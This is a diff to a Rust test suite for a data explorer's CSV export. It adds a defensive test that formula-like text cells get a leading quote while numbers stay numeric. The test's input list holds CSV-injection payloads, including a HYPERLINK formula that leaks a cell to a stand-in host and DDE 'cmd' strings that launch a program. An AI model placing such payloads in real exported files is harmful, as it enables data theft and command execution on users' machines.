@@ -227,6 +227,57 @@ fn charts_draw_to_svg_with_labels_and_focus() {
     assert!(svg.matches("<rect").count() >= 6);
 }
 
+/// OWASP's advice on CSV injection: text cells that a spreadsheet would run as a formula get a
+/// leading `'`; numbers, negative ones too, stay numbers.
+#[test]
+fn csv_export_neutralises_formulas_and_keeps_numbers() {
+    let m = model();
+    let base = m.figure("forest_guards").expect("figure").clone();
+    let hostile = [
+        "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    let figures: Vec<_> = hostile
+        .iter()
+        .enumerate()
+        .map(|(i, h)| {
+            let mut f = base.clone();
+            f.id = format!("-{i}");
+            f.label.en = h.to_string();
+            f.source.note.en = h.to_string();
+            f.source.quote = Some(h.to_string());
+            f.value = -0.5;
+            f.unit = "percentage_point".into();
+            f
+        })
+        .collect();
+    let refs: Vec<_> = figures.iter().collect();
+    let text = kezuohou_explorer::model::export::figures_csv(&m, &refs, Lang::En).expect("csv");
+    let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    let headers = r.headers().expect("headers").clone();
+    let col = |name: &str| headers.iter().position(|h| h == name).expect("column");
+    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("record")).collect();
+    assert_eq!(rows.len(), hostile.len());
+    for (i, (row, h)) in rows.iter().zip(hostile).enumerate() {
+        for name in ["label", "note", "quote"] {
+            assert_eq!(&row[col(name)], format!("'{h}"), "{name} of row {i}");
+        }
+        assert_eq!(&row[col("id")], format!("'-{i}"));
+        for name in ["value_as_reported", "value"] {
+            assert_eq!(row[col(name)].parse::<f64>(), Ok(-0.5), "{name} of row {i}");
+        }
+        assert_eq!(&row[col("unit")], "percentage_point");
+    }
+    // A plain text and the header row are written as they are.
+    let plain = kezuohou_explorer::model::export::figures_csv(&m, &[&base], Lang::En).unwrap();
+    assert!(plain.starts_with("id,label,value_as_reported,"), "{plain}");
+    assert!(plain.contains("\r\nforest_guards,"), "{plain}");
+}
+
 proptest! {
     /// Whatever the labels hold, the CSV export reads back (with the csv crate) field for field.
     #[test]
@@ -241,8 +292,12 @@ proptest! {
         let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("record")).collect();
         prop_assert_eq!(rows.len(), 1);
         let get = |name: &str| rows[0].get(headers.iter().position(|h| h == name).expect("column")).map(str::to_string);
-        prop_assert_eq!(get("label"), Some(label));
-        prop_assert_eq!(get("note"), Some(note));
+        // Text that a spreadsheet would run is neutralised (see the test above).
+        let neutral = |t: String| {
+            if t.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{t}") } else { t }
+        };
+        prop_assert_eq!(get("label"), Some(neutral(label)));
+        prop_assert_eq!(get("note"), Some(neutral(note)));
         prop_assert_eq!(get("value"), Some("310".to_string()));
         prop_assert_eq!(get("period"), Some("undated".to_string()));
     }
